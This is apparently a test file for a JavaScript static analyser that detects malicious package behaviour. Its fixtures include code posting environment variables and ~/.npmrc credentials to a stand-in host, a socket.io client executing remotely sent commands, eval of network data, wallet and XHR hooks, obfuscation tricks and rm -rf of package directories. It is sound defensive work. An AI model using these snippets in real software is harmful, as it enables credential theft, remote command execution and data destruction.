import { describe, expect, it } from 'vitest';
import { javascriptFacts } from './index.js';

describe('javascriptFacts', () => {
  it('resolves callees through require, destructuring, aliases and concatenated names', () => {
    const facts = javascriptFacts(`
      const cp = require('child_' + 'process');
      const { exec: run } = cp;
      const alias = cp;
      run('id');
      alias['sp' + 'awn']('sh', ['-c', 'id']);
      require(\`node:\${'https'}\`).get('https://x.example/');
      import('node:dns').then(() => 0);
    `);
    const callees = facts.calls.map((c) => c.callee);
    expect(callees).toContain('child_process.exec');
    expect(callees).toContain('child_process.spawn');
    expect(callees).toContain('https.get');
    expect(facts.hiddenNames.map((h) => h.name)).toEqual(expect.arrayContaining(['child_process', 'spawn']));
    expect(facts.imports.map((i) => i.module)).toEqual(expect.arrayContaining(['child_process', 'https', 'dns']));
  });

  it('resolves ES imports and global roots', () => {
    const facts = javascriptFacts(`import { spawn as s } from 'node:child_process'; import * as h from 'http'; s('x'); h.request({}); globalThis['fet' + 'ch']('https://x.example');`);
    expect(facts.calls.map((c) => c.callee)).toEqual(expect.arrayContaining(['child_process.spawn', 'http.request', 'fetch']));
  });

  it('follows the environment and credential files into a request body', () => {
    const facts = javascriptFacts(`
      const os = require('os'), fs = require('fs'), path = require('path');
      const env = JSON.stringify(process.env);
      const npmrc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
      const body = { env, npmrc, host: os.hostname() };
      const req = require('https').request({ hostname: 'collect.example', method: 'POST' });
      req.write(JSON.stringify(body));
      req.end();
    `);
    const write = facts.calls.find((c) => c.callee === 'req.write');
    expect(write?.onChannel).toBe(true);
    expect(write?.argLabels).toEqual(expect.arrayContaining(['env', 'secret', 'hostinfo']));
    expect(facts.envDumps).toHaveLength(1);
  });

  it('keeps a name bound in one function from leaking into another (minified code reuses names)', () => {
    const facts = javascriptFacts(`function a(){ var e = process.env; return e; } function b(e){ return fetch('https://x.example', { body: e }); }`);
    expect(facts.calls.find((c) => c.callee === 'fetch')?.argLabels).not.toContain('env');
  });

  it('marks data received from the network and decoded text', () => {
    const facts = javascriptFacts(`
      const https = require('https');
      https.get('https://x.example/p', (res) => { res.on('data', (d) => { eval(d); }); });
      eval(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString());
      const u = String.fromCharCode(104,116,116,112,115,58,47,47,120,46,101,120,97,109,112,108,101);
    `);
    const evals = facts.calls.filter((c) => c.callee === 'eval');
    expect(evals[0]?.argLabels).toContain('remote');
    expect(evals[1]?.directDecode).toBe(true);
    expect(evals[1]?.args[0]).toBe('console.log(1)');
    expect(facts.strings.find((s) => s.decoded && s.value === 'https://x.example')).toBeDefined();
  });

  it('records detached, unref()ed spawns, hooks and endless module-level loops', () => {
    const facts = javascriptFacts(`
      const { spawn } = require('child_process');
      const p = spawn(process.execPath, ['x.js'], { detached: true, stdio: 'ignore', windowsHide: true });
      p.unref();
      window.ethereum.request = async function (a) { return a; };
      XMLHttpRequest.prototype.send = function () {};
      for (let i = 666; i < Infinity; i++) { console.log(i); }
      function f() { while (true) {} }
    `);
    const spawn = facts.calls.find((c) => c.callee === 'child_process.spawn');
    expect(spawn).toMatchObject({ unref: true, options: { detached: 'true', stdio: 'ignore', windowsHide: 'true' } });
    expect(facts.hooks.map((h) => h.target)).toEqual(['ethereum.request', 'XMLHttpRequest.prototype.send']);
    const viaVariable = javascriptFacts(`const cp = require('child_process'); const o = { detached: true, stdio: 'ignore' }; cp.spawn('x', [], o).unref();`);
    expect(viaVariable.calls.find((c) => c.callee === 'child_process.spawn')).toMatchObject({ unref: true, options: { detached: 'true', stdio: 'ignore' } });
    expect(facts.endlessTopLevelLoops).toEqual([7]);
  });

  it('counts _0x identifiers and falls back to the tolerant parser', () => {
    const facts = javascriptFacts(`var _0x1a2b=['a'],_0x3c4d=function(_0x5e6f){return _0x1a2b[_0x5e6f];};`);
    expect(facts.mangledIdentifiers).toBe(3);
    const loose = javascriptFacts(`const x: number = 1; require('child_process').exec('id');`);
    expect(loose.parse).toBe('loose');
    expect(loose.calls.map((c) => c.callee)).toContain('child_process.exec');
  });
});

describe('javascriptFacts: sources and channels found in the 2025 corpus', () => {
  it('labels a parameter named for key material that is sent in a request header', () => {
    const facts = javascriptFacts(`function check(privateKey) { fetch("https://x.example/xc", { method: "POST", headers: { "ad-referral": privateKey } }); }`);
    const call = facts.calls.find((c) => c.callee === 'fetch');
    expect(call?.argLabels).toContain('keymaterial');
  });
  it('treats a socket.io client as a network channel whose messages are remote data', () => {
    const facts = javascriptFacts(`const io = require("socket.io-client"); const { exec } = require("child_process"); const s = io("http://203.0.113.1:3306"); s.on("command", (msg) => { exec(msg.cmd); });`);
    const call = facts.calls.find((c) => c.callee === 'child_process.exec');
    expect(call?.argLabels).toContain('remote');
  });
  it('reports process, host and network APIs reached by constant computed names, key searches and reflection', () => {
    const facts = javascriptFacts(`
      const cp = require('child_process'), os = require('os'), http = require('http');
      cp['spawn']('node', ['x.js']);
      cp["\\x65\\x78\\x65\\x63"].call(cp, 'id');
      os[Object.keys(os).find((k) => k === 'hostname')]();
      Object.entries(os).filter(([k]) => k === 'userInfo')[0][1]();
      Object.getOwnPropertyDescriptor(os, 'networkInterfaces').value();
      cp[Buffer.from([0x66, 0x6f, 0x72, 0x6b]).toString()].bind(null, 'w.js')();
      const send = http['request'];
      send({ host: 'x.example' });
    `);
    expect(facts.reflectiveCalls.map((r) => [r.callee, r.via])).toEqual([
      ['child_process.spawn', 'computed member'],
      ['child_process.exec', 'computed member'],
      ['os.hostname', 'key search'],
      ['os.userInfo', 'key search'],
      ['os.networkInterfaces', 'property descriptor'],
      ['child_process.fork', 'computed member'],
      ['http.request', 'computed member'],
    ]);
  });

  it('does not report a method chosen at run time, plain member calls or non-sensitive computed calls', () => {
    const facts = javascriptFacts(`
      const fs = require('fs'), cp = require('child_process');
      module.exports = (p, sync) => fs[sync ? 'readFileSync' : 'readFile'](p);
      cp.spawn('git', ['status']);
      const levels = { info: console.log };
      levels['info']('x');
      module['require']('fs');
    `);
    expect(facts.reflectiveCalls).toEqual([]);
  });

  it('treats a local character decoder applied to constants as decoding, and reports calls it names', () => {
    const facts = javascriptFacts(`
      function f() {
        const shift = (s) => s.split('').map((c) => String.fromCharCode(c.charCodeAt(0) - 1)).join('');
        const names = [shift('bypmt'), shift('qptu')];
        self[shift('gfudi')](url);
        require(names[0]);
      }
      function g() {
        const shift = (s) => s.toUpperCase();
        self[shift('fetch')](url);
      }
    `);
    expect(facts.decodedNameCalls.map((d) => d.line)).toEqual([5, 6]);
  });
  it('finds javascript-obfuscator string-array rotation, not a round-robin', () => {
    const rot = javascriptFacts(`(function(a, n){ while (!![]) { try { const c = parseInt(a[0]) / 1; if (c === n) break; else a['push'](a['shift']()); } catch (e) { a['push'](a['shift']()); } } }(list, 0x1f));`);
    expect(rot.stringArrayRotations).toEqual([1]);
    const rr = javascriptFacts(`let i = 0;\nwhile (true) { if (ok(q[0]) || i++ > 3) break; q.push(q.shift()); }\nconst p = parseInt(s, 10);`);
    expect(rr.stringArrayRotations).toEqual([]);
  });

  it('gives a template literal that starts with text in argStrings with `?` for each computed part (round s28)', () => {
    const facts = javascriptFacts("const cp = require('child_process');\nconst SIG = 'TERM';\ncp.exec(`kill -${SIG} ${pid}`);\ncp.exec(`${bin} --version`);\ncp.execSync('ls ' + dir);\n");
    const execs = facts.calls.filter((c) => /^child_process\./.test(c.callee));
    expect(execs.map((c) => c.argStrings)).toEqual([['kill -TERM ?', 'TERM'], [], ['ls ']]);
  });

  it('does not read a server’s own address or a socket’s ports as data received from the network (round s28)', () => {
    const facts = javascriptFacts("const net = require('net');\nconst { exec } = require('child_process');\nconst srv = net.createServer();\nsrv.listen(0, () => {\n  const port = srv.address().port;\n  const { port: p2 } = srv.address();\n  exec(`moto_server -p ${port} ${p2}`);\n});\nconst sock = net.connect(1, 'h');\nsock.on('connect', () => exec('echo ' + sock.localPort));\nsock.on('data', (d) => exec(d.toString()));\n");
    expect(facts.calls.filter((c) => c.callee === 'child_process.exec').map((c) => c.argLabels.includes('remote'))).toEqual([false, false, true]);
  });

  it('follows paths from the file’s location into rimraf, fs-extra, del and rmdir, through a helper, and into commands (round s28)', () => {
    const facts = javascriptFacts([
      "const fs = require('fs'); const fse = require('fs-extra'); const path = require('path'); const { rimraf } = require('rimraf'); const del = require('del');",
      "const { exec, spawn } = require('child_process');",
      "const ROOT = path.join(__dirname, '..');",
      'fse.emptyDir(ROOT);',
      "rimraf(path.resolve(__dirname, 'cache'));",
      'del.deleteSync(ROOT);',
      'fs.rmdirSync(__dirname, { recursive: true });',
      'function wipe(dir) { return fse.remove(dir); }',
      'wipe(ROOT);',
      'exec(`rm -rf ${__dirname} ${tmp}`);',
      "spawn('rm', ['-rf', ROOT]);",
      "exec('rm -rf ' + tmp);",
    ].join('\n'));
    const paths = facts.calls.filter((c) => c.argPath !== undefined).map((c) => `${c.callee} ${c.argPath}`);
    expect(paths).toEqual(['fs-extra.emptyDir $DIR/..', 'rimraf.rimraf $DIR/cache', 'del.deleteSync $DIR/..', 'fs.rmdirSync $DIR', 'fs-extra.remove $DIR/..']);
    expect(facts.calls.filter((c) => /^child_process\./.test(c.callee)).map((c) => c.commandPaths)).toEqual([['$DIR', '?'], ['$DIR/..'], undefined]);
  });

  it('does not read a template that only ends with __dirname as a path (round s28)', () => {
    const facts = javascriptFacts("const fs = require('fs');\nfs.writeFileSync(`backup-of-${__dirname}`, 'x');\nfs.writeFileSync(`${__dirname}/out.json`, 'x');\n");
    expect(facts.calls.filter((c) => c.callee === 'fs.writeFileSync').map((c) => c.argPath)).toEqual([undefined, '$DIR/out.json']);
  });
});

